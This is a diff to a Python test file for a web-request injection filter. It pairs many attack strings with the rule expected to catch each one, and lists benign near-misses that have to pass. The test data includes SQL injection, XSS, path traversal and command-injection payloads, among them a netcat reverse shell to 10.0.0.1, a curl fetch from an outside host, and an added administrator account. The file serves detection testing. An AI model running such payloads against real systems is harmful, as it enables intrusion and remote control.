@@ -25,7 +25,7 @@ ATTACKS = [
     ("/etc/passwd", Category.TRAVERSAL),
     ("file:///etc/hosts", Category.TRAVERSAL),
     ("report.pdf\x00.png", Category.TRAVERSAL),
-    ("8.8.8.8; cat /etc/hostname", Category.TRAVERSAL),  # the file is found first
+    ("8.8.8.8; cat /etc/hostname", Category.CMDI),  # the command, not the file it reads
     ("8.8.8.8 && whoami", Category.CMDI),
     ("x | nc -e /bin/sh 10.0.0.1 4444", Category.CMDI),
     ("$(curl http://203.0.113.9/x)", Category.CMDI),
@@ -144,15 +144,15 @@ def test_a_twice_encoded_attack_is_refused_as_double_encoding() -> None:
 def test_an_offending_name_is_left_out_of_the_location() -> None:
     name = "<script>alert(1)</script>"
     assert inspect(query=urlencode({name: "1"}).encode()) == Finding(
-        Category.XSS, "query", "libinjection-xss"
+        Category.XSS, "query", "xss-script-tag"
     )
     body = json.dumps({"a": {name: 1}}).encode()
     found = inspect(content_type="application/json", body=body)
-    assert found == Finding(Category.XSS, "body/a", "libinjection-xss")
+    assert found == Finding(Category.XSS, "body/a", "xss-script-tag")
     escaped = name.replace("/", "~1")
     for pointer in ("/a/" + escaped, "/a/" + name):  # RFC 6901 §4, or left unescaped
         found = inspect(content_type="application/json", body=b"{}", json_strings=[(pointer, name)])
-        assert found == Finding(Category.XSS, "body/a", "libinjection-xss")
+        assert found == Finding(Category.XSS, "body/a", "xss-script-tag")
 
 
 def test_a_long_name_is_cut_and_unprintable_characters_replaced() -> None:
@@ -165,14 +165,14 @@ def test_a_long_name_is_cut_and_unprintable_characters_replaced() -> None:
 def test_cookies_and_only_the_listed_headers_are_inspected() -> None:
     cookie = (b"cookie", b"theme=dark; pref=1' or '1'='1")
     assert inspect(headers=[cookie]) == Finding(
-        Category.SQLI, "header.cookie.pref", "libinjection-sqli"
+        Category.SQLI, "header.cookie.pref", "sqli-tautology"
     )
     attack = b"<script>alert(1)</script>"
     assert inspect(headers=[(b"accept-language", attack)]) is None
     assert inspect(headers=[(b"authorization", b"Bearer ' or 1=1--" + attack)]) is None
     assert FastFilter(inspect_headers=["accept-language"]).inspect(
         path="/", query=b"", headers=[(b"Accept-Language", attack)], content_type=None, body=b""
-    ) == Finding(Category.XSS, "header.accept-language", "libinjection-xss")
+    ) == Finding(Category.XSS, "header.accept-language", "xss-script-tag")
     with pytest.raises(ValueError, match="authorization"):
         FastFilter(inspect_headers=["Authorization"])
 
@@ -181,7 +181,7 @@ def test_other_content_types_are_not_inspected_and_bad_json_is_inspected_whole()
     attack = b"<script>alert(1)</script>"
     assert inspect(content_type="text/plain", body=attack) is None
     assert inspect(content_type="application/json", body=b'{"a": ' + attack) == Finding(
-        Category.XSS, "body", "libinjection-xss"
+        Category.XSS, "body", "xss-script-tag"
     )
 
 
@@ -236,3 +236,97 @@ def test_inspect_never_raises(
         body=b"",
         json_strings=[(text, text)],
     )
+
+
+# -- the generic rules, each with an example of its own and benign near-misses ---------
+RULES = [
+    ("0 UNION ALL SELECT name, pass FROM accounts", Category.SQLI, "sqli-union-select"),
+    ("7 union/**/distinct/**/select 1", Category.SQLI, "sqli-union-select"),
+    ("3) AND SLEEP(4)", Category.SQLI, "sqli-time-delay"),
+    ("1 and benchmark(9000000,sha1(2))", Category.SQLI, "sqli-time-delay"),
+    ("5'; WAITFOR DELAY '0:0:9'", Category.SQLI, "sqli-time-delay"),
+    ("9 and 1=pg_sleep(7)", Category.SQLI, "sqli-time-delay"),
+    ("1 AND 2 > 1", Category.SQLI, "sqli-tautology"),
+    ("zz' OR 'k'='k", Category.SQLI, "sqli-tautology"),
+    ("x' || 'q'='q", Category.SQLI, "sqli-tautology"),
+    ("bob')--", Category.SQLI, "sqli-quote-comment"),
+    ("bob' #", Category.SQLI, "sqli-quote-comment"),
+    ("2 ORDER BY 12--", Category.SQLI, "sqli-order-by-comment"),
+    ("1 SEL/**/ECT 2", Category.SQLI, "sqli-inline-comment"),
+    ("1/*!12345UNION*/", Category.SQLI, "sqli-inline-comment"),
+    ("x; DROP TABLE carts", Category.SQLI, "sqli-stacked-query"),
+    ("x; exec master..xp_cmdshell 'dir'", Category.SQLI, "sqli-system-object"),
+    ("x' into outfile '/var/www/s.php", Category.SQLI, "sqli-system-object"),
+    ("1 AND (SELECT @@hostname)", Category.SQLI, "sqli-statement"),
+    ("CREATE TABLE t (c text)", Category.SQLI, "sqli-statement"),
+    ("INSERT INTO audit VALUES (1)", Category.SQLI, "sqli-statement"),
+    ("SELECT * FROM orders", Category.SQLI, "sqli-statement"),
+    ("x' AND 1 IN (SELECT 1)", Category.SQLI, "libinjection-sqli"),
+    ("<ScRiPt src=//evil.example/a.js></script>", Category.XSS, "xss-script-tag"),
+    ('<div data-x="1" onpointerenter=go()>', Category.XSS, "xss-event-handler"),
+    ("<iframe src=//evil.example>", Category.XSS, "xss-active-tag"),
+    ("jAvAsCrIpT:fetch(1)", Category.XSS, "xss-script-url"),
+    ("data:text/html,<b>x</b>", Category.XSS, "xss-script-url"),
+    ('<x srcdoc="&lt;b&gt;">', Category.XSS, "xss-attribute"),
+    ("width:expression(go())", Category.XSS, "xss-attribute"),
+    ('";prompt`7`;"', Category.XSS, "xss-js"),
+    ("x=String.fromCharCode(72,73)", Category.XSS, "xss-js"),
+    ("+ADw-b+AD4-", Category.XSS, "xss-utf7"),
+    ("jav&#x09;ascript:go()", Category.XSS, "xss-script-url"),  # a browser drops the tab
+    ("&lt;svg onload=go()&gt;", Category.XSS, "libinjection-xss"),  # references decoded
+    ("`/*`<svg/onload=go()>", Category.XSS, "xss-event-handler"),  # not cmdi: XSS first
+    ("%uff0e%uff0e%u2215app%u2215config.yml", Category.TRAVERSAL, "traversal-dotdot-unicode"),
+    ("..%uf025secret", Category.TRAVERSAL, "traversal-dotdot-unicode"),
+    ("0x2e0x2e0x2fsecret", Category.TRAVERSAL, "traversal-dotdot"),  # letters and digits only
+    ('<?php passthru($_GET["c"]); ?>', Category.CMDI, "cmdi-code-exec"),
+    ("os.system('id')", Category.CMDI, "cmdi-code-exec"),
+    ('<!--#exec cmd="ls" -->', Category.CMDI, "cmdi-ssi"),
+    ("x & net user eve P4ss /add", Category.CMDI, "cmdi-net-admin"),
+    ("run:/bin/id", Category.CMDI, "cmdi-binary-path"),
+]
+
+NEAR_MISSES = [
+    "select your size",
+    "Tom & Jerry; the sequel",
+    "Tom & Jerry; select the sequel",
+    "5 > 3",
+    "email me at a@b.c",
+    "on sale = yes",
+    "javascript tutorial",
+    "JavaScript: the good parts",
+    "drop-down menu",
+    "union station",
+    "Union Jack, 1 select",
+    "O'Reilly's -- notes",
+    'say "hi" -- then go',
+    "we're #1",
+    "Order by phone -- or email",
+    "Prompt(s) and confirm(ed) orders",
+    "regular expression(s)",
+    "alert: the bell (12) is broken",
+    "eval period: 3 months",
+    "Sleep (8 hours) or more",
+    "40% wool and 60% cotton",  # libinjection: 1&1, too short to trust
+    'the "AND" gate',  # libinjection: sos, too short to trust
+    "Tom or Jerry = cartoon",
+    "x = y or z",
+    "ranks: 1 or 2",
+    "select one from the list",
+    "(select all that apply)",
+    "create table settings",
+    "the system (of record)",
+    "a <b>bold</b> claim",
+    "document.pdf",
+]
+
+
+@pytest.mark.parametrize(("value", "category", "check"), RULES)
+def test_each_generic_rule_finds_its_shape(value: str, category: Category, check: str) -> None:
+    assert in_json(value) == Finding(category, "body/items/0/name", check)
+    assert in_query(value) == Finding(category, "query.q", check)
+
+
+@pytest.mark.parametrize("value", NEAR_MISSES)
+def test_benign_near_misses_pass(value: str) -> None:
+    assert in_json(value) is None
+    assert in_query(value) is None
